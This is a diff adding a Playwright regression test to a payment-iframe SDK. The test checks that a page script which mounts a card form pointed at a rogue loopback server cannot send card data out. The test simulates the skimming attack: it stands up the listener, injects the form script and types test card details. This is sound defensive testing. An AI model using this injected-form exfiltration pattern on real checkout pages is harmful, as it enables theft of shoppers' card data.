@@ -157,3 +157,35 @@ test('the README’s kept card, page and routes as written: a ticket, the CVV fr
   expect((payment.body as any).payer.funding_instrument.credit_card_token).toEqual({ credit_card_id: keptCardId, cvv2: '***' });
   await expectNoCardData(recorder, { cvv: '123' });
 });
+
+// The adversarial review's find: a page script mounted a full form whose gateway was a loopback
+// listener of its own, which the frame page's connect-src then admitted (it named the merchant's
+// origins, by default every loopback origin, for the CVV post), and the card number went there.
+test('a page script that points a full form’s gateway at another origin gets no request out of the frames', async ({ page }) => {
+  const { createServer } = await import('node:http');
+  const got: string[] = [];
+  const rogue = createServer((req, res) => {
+    got.push(`${req.method} ${req.url}`);
+    res.writeHead(204, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' }).end();
+  });
+  await new Promise<void>((resolve) => rogue.listen(0, '127.0.0.1', resolve));
+  try {
+    const rogueUrl = `http://127.0.0.1:${(rogue.address() as { port: number }).port}/`;
+    await page.goto(keptCardPage());
+    await expect(cvvInput(page)).toBeEditable({ timeout: 15_000 });
+    await page.evaluate(([gateway, frames, merchantId]) => {
+      for (const id of ['n', 'e', 'c']) document.body.append(Object.assign(document.createElement('div'), { id }));
+      const P = (window as any).Payframe;
+      const client = P.createClient({ merchantId, baseUrl: gateway, authorization: 'a-token' });
+      (window as any).stolen = P.mountFields({ client, frameUrl: frames, fields: { number: { container: '#n' }, expiry: { container: '#e' }, cvv: { container: '#c' } } });
+    }, [rogueUrl, `${merchant.sandbox.url}/frame/`, merchant.sandbox.merchant.id]);
+    for (const [id, text] of [['n', testCards.approved.number], ['e', '1234'], ['c', '123']] as const) {
+      await page.frameLocator(`#${id} iframe`).getByRole('textbox').click();
+      await page.keyboard.type(text);
+    }
+    expect(await outcome(page, '() => window.stolen.tokenize()')).toMatchObject({ code: 'network' });
+    expect(got).toEqual([]);
+  } finally {
+    rogue.close();
+  }
+});
